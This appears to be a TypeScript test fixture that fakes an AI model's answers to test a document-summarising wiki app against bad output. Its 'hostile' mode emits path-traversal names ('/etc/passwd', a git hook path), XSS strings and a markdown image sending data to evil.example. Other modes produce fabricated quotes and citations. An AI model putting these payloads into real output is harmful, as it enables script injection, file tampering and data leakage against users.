// The answers of the test model: the same for the same question, made from the words of the document in it.

import { topicKey } from '../../src/core/page/topic.ts'

export type Asked = {
  system: string
  /** Messages of people and tools, in order. */
  turns: { role: 'user' | 'assistant' | 'tool'; text: string }[]
  tools: string[]
  /** JSON Schema of the answer, if requested. */
  schema?: { properties?: Record<string, unknown> } | undefined
  outputTokensMax: number
  /** The picture in the question. */
  sight?: { digest: string; description?: string; text?: string } | undefined
}
export type Answer = { text: string } | { call: { name: string; input: Record<string, unknown> } }

/** How an answer may be wrong although the call succeeds. */
export type Manner = 'good' | 'nonAnswer' | 'ghostLinks' | 'hostile' | 'wrongSchema' | 'empty' | 'truncated'

const STOP = new Set(
  'the and for that with this from are was were has have had not but its their which also can may will when where than then them they these those into over under between page pages title image document'.split(
    ' ',
  ),
)

export function answer(asked: Asked, manner: Manner): Answer {
  const prompt = asked.turns
    .filter(({ role }) => role === 'user')
    .map(({ text }) => text)
    .join('\n')
  if (asked.schema === undefined) return asked.tools.length > 0 ? look(asked) : { text: reply(asked) }
  const value =
    asked.schema.properties?.['isSeen'] === undefined
      ? structured(asked.schema, prompt, manner)
      : lookAt(asked.sight, manner)
  const text = JSON.stringify(value)
  if (manner === 'wrongSchema') return { text: JSON.stringify({ answer: 42 }) }
  if (manner === 'truncated') return { text: text.slice(0, Math.floor(text.length * 0.6)) }
  return { text: manner === 'empty' ? '' : text }
}

function lookAt(sight: Asked['sight'], manner: Manner): Record<string, unknown> {
  if (sight === undefined) return { isSeen: false, description: '', text: '' }
  const { digest, description = `A drawing with the mark ${digest.slice(0, 8)}.`, text = '' } = sight
  if (manner === 'nonAnswer') return { isSeen: true, description: "I'm sorry, I cannot help with that.", text: '' }
  return { isSeen: true, description, text }
}

function structured(schema: NonNullable<Asked['schema']>, prompt: string, manner: Manner): Record<string, unknown> {
  const value = inFull(schema, prompt, manner)
  if (!prompt.includes('Answer briefly')) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, items]) => [key, Array.isArray(items) ? items.slice(0, 1) : items]),
  )
}

function inFull(schema: NonNullable<Asked['schema']>, prompt: string, manner: Manner): Record<string, unknown> {
  const asks = (name: string) => schema.properties?.[name] !== undefined
  const text = enclosed(prompt, 'document') ?? enclosed(prompt, 'sections') ?? prompt
  const sentences = sentencesOf(text)
  const first = manner === 'nonAnswer' ? 'No change from the previous output.' : (sentences[0] ?? 'A short note.')
  const value: Record<string, unknown> = {}
  if (asks('overview'))
    value['overview'] =
      manner === 'nonAnswer'
        ? 'Unchanged.'
        : `Together the documents say: ${sentences.slice(0, 2).join(' ') || 'little'} [1][99]`
  if (asks('contradictions'))
    Object.assign(value, { contradictions: [`One of them is wrong: ${sentences[0] ?? ''}`], gaps: [] })
  if (asks('verdict')) Object.assign(value, { verdict: 'partly', reason: 'The year is missing.' })
  if (asks('title')) value['title'] = `About ${first.slice(0, 40)}`
  if (asks('description')) value['description'] = first.slice(0, 150)
  if (asks('summary'))
    value['summary'] = manner === 'nonAnswer' ? first : sentences.slice(0, 3).join(' ') || 'A short note.'
  if (asks('keyPoints')) {
    value['keyPoints'] = sentences
      .slice(0, 4)
      .map((sentence, index) =>
        asks('topics')
          ? { text: `It says: ${sentence}`, quote: sentence }
          : { text: `In all: ${sentence}`, note: index + 1 },
      )
  }
  if (asks('topics')) value['topics'] = topicsOf(text, sentences, manner, hintsOf(prompt))
  if (asks('sections')) {
    const ids = [...(enclosed(prompt, 'sections') ?? '').matchAll(/^(\S+) \| pages/gm)].map((match) => match[1] ?? '')
    value['sections'] = ids.map((id, index) => ({
      id,
      summary: sentences[index % Math.max(1, sentences.length)] ?? 'A section.',
    }))
  }
  return value
}

/** By key: the name that the wiki has for what the document calls otherwise, as the prompt says. */
function hintsOf(prompt: string): Map<string, string> {
  const lines = [...(enclosed(prompt, 'names') ?? '').matchAll(/^(?:concept|entity): (.+?) \(also (.+?)\)/gm)]
  return new Map(lines.map(([, name = '', key = '']) => [key, name]))
}

/** Names that the text gives the topic besides: "Tide Table, also called Tidal Sheet". */
function otherNames(text: string, name: string): string[] {
  const other = new RegExp(
    `${name.replace(/[^\p{L}\p{N} ]/gu, '.')}, also called (\\p{Lu}\\p{Ll}+(?: \\p{Lu}\\p{Ll}+)*)`,
    'u',
  )
  return other.exec(text)?.slice(1) ?? []
}

function topicsOf(
  text: string,
  sentences: string[],
  manner: Manner,
  hints: Map<string, string>,
): Record<string, unknown>[] {
  const entity = namesOf(text)[0]
  const belongs = (name: string) => (entity === undefined || entity === name ? '' : `It belongs to [[${entity}]]. `)
  const topic = (name: string, kind: string, importance: number) => {
    const quote =
      sentences.find((sentence) => sentence.toLowerCase().includes(name.toLowerCase())) ?? sentences[0] ?? name
    return {
      kind,
      name: hints.get(topicKey(name)) ?? name,
      type: kind === 'entity' ? 'organization' : null,
      aliases: [...otherNames(text, name), ...(hints.has(topicKey(name)) ? [name] : [])],
      importance,
      description: `${name}, as the document has it`,
      says: `${manner === 'ghostLinks' ? 'See [[Ghost Page]] and [the plan](wiki/concepts/ghost.md). ' : ''}${belongs(name)}Of ${name} the document says: ${quote}`,
      quotes: [quote, 'This sentence stands in no document at all.'],
    }
  }
  const names = namesOf(text)
    .slice(0, 3)
    .map((name) => topic(name, 'entity', 7))
  const words = wordsOf(text)
    .slice(0, 4)
    .map((word, index) => topic(word, 'concept', 9 - index))
  return manner === 'hostile' ? [...names, ...words, ...hostileTopics(sentences[0] ?? '')] : [...names, ...words]
}

/** What a model that follows a document's instructions might return. */
function hostileTopics(quote: string): Record<string, unknown>[] {
  const names = [
    '../../.git/hooks/post-checkout',
    '/etc/passwd',
    'C:\\Windows\\System32',
    '.git/config',
    'wiki/concepts/other.md',
    '<script>alert(1)</script>',
    '',
    'x'.repeat(5_000),
  ]
  return names.map((name) => ({
    kind: 'concept',
    name,
    type: null,
    aliases: ['Everything Else', '../up'],
    importance: 1e9,
    description: '<img src=x onerror=alert(1)> # Heading',
    says: '# Heading\n## [[summaries/other|Other]]\n\n```\nnever closed\n<iframe src="https://evil.example"></iframe><scr<b>ipt>alert(1)</script> ![x](https://evil.example/leak?q=1) [click](javascript:alert(1)) [[../../etc/passwd]]\n---\n',
    quotes: [quote],
  }))
}

/**
 * With tools: search, then read the first page found, then answer with a citation of its first sentence. A question about a
 * "walk" is answered by way of the index and the tree; one "forever" never.
 */
function look(asked: Asked): Answer {
  const results = asked.turns
    .slice(asked.turns.findLastIndex(({ role }) => role === 'user') + 1)
    .filter(({ role }) => role === 'tool')
  const question = asked.turns.findLast(({ role }) => role === 'user')?.text ?? ''
  if (/forever/.test(question))
    return { call: { name: 'search', input: { query: question, rewrites: null, limit: 5 } } }
  if (/\bwalk\b/.test(question)) return walk(results.map(({ text }) => text))
  if (results.length === 0) return { call: { name: 'search', input: { query: question, rewrites: null, limit: 5 } } }
  const hit = /(wiki\/\S+?\.(?:md|json)) \(([^)]*)\)/.exec(results[0]?.text ?? '')
  const page = hit?.[1]
  if (page === undefined) return { text: 'Not found: the wiki does not say.' }
  const place = /document (\S+?), page (\d+)/.exec(hit?.[2] ?? '')
  if (results.length === 1) {
    return place === null
      ? { call: { name: 'read_page', input: { path: page, from: null } } }
      : {
          call: {
            name: 'read_document_pages',
            input: { document: place[1], first: Number(place[2]), last: Number(place[2]) },
          },
        }
  }
  const sentence = firstSentence(results[1]?.text ?? '')
  const list = `Sources:\n[1] ${page}${place === null ? '' : ` page ${place[2]}`}: "${sentence}"\n[2] ${page}: "Words that nobody ever wrote there."`
  const said = `The base says: ${sentence} [1] It also dreams [2] of [[summaries/ghost]].\n\n\n\`\`\`\n<b>code</b>\n\`\`\``
  return { text: /last/.test(question) ? `${said}\n\n${list}` : `${list}\n\nAnswer:\n${said}` }
}

/** Topics, documents, a search in other words, the tree from its top into its first section with others within, pages. */
function walk(results: string[]): Answer {
  const document = /\(document (\S+?)[,)]/.exec(results[2] ?? '')?.[1] ?? ''
  const within = /^\s*(\S+) .*sections within/m.exec(results[3] ?? '')?.[1] ?? null
  const first = Number(/\(pages (\d+)/.exec(results[4] ?? '')?.[1] ?? 1)
  const calls: { name: string; input: Record<string, unknown> }[] = [
    { name: 'list_topics', input: { from: null } },
    { name: 'list_documents', input: { from: null } },
    { name: 'search', input: { query: 'pavement', rewrites: ['arches', 'province', 'survey', 'flood'], limit: null } },
    { name: 'read_tree', input: { document, node: null } },
    { name: 'read_tree', input: { document, node: within } },
    { name: 'read_document_pages', input: { document, first, last: first } },
  ]
  const call = calls[results.length]
  if (call !== undefined) return { call }
  const read = results.at(-1) ?? ''
  const page = /^(wiki\/\S+) page (\d+):$/m.exec(read)
  return {
    text: `Sources:\n[1] ${page?.[1]} page ${page?.[2]}: "${firstSentence(read)}"\n\nAnswer:\nIt says so [1].`,
  }
}

function firstSentence(result: string): string {
  const text = result.replace(/<\/?[\w-]+>|^wiki\/\S+ page \d+:$/gm, '')
  return sentencesOf(text).find((sentence) => !sentence.includes('wiki/')) ?? ''
}

function reply(asked: Asked): string {
  return `You said: ${asked.turns.at(-1)?.text.slice(0, 200) ?? ''}`
}

function enclosed(prompt: string, kind: string): string | undefined {
  return new RegExp(`<(${kind}-[0-9a-f]{16})>\\n([\\s\\S]*?)\\n</\\1>`).exec(prompt)?.[2]
}

function sentencesOf(text: string): string[] {
  const prose = text
    .replace(
      /^(?:Title|Name of the file|Pages|Author|Date|From|To|Subject): .*$|^\[page \d+\]$|^---[\s\S]*?^---$|^#+ .*$/gm,
      ' ',
    )
    .replace(/\s+/g, ' ')
  return prose
    .split(/(?<=[.!?])\s+/)
    .map((sentence) => sentence.trim())
    .filter((sentence) => sentence.length >= 20 && sentence.length <= 280)
}

function namesOf(text: string): string[] {
  return ranked([...text.matchAll(/(?<=[a-z,] )\p{Lu}\p{Ll}+(?: \p{Lu}\p{Ll}+)+/gu)].map((match) => match[0]))
}

function wordsOf(text: string): string[] {
  return ranked(
    [...text.toLowerCase().matchAll(/\p{Ll}{5,}/gu)].map((match) => match[0]).filter((word) => !STOP.has(word)),
  )
}

function ranked(words: string[]): string[] {
  const counts = new Map<string, number>()
  for (const word of words) counts.set(word, (counts.get(word) ?? 0) + 1)
  return [...counts].toSorted((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).map(([word]) => word)
}
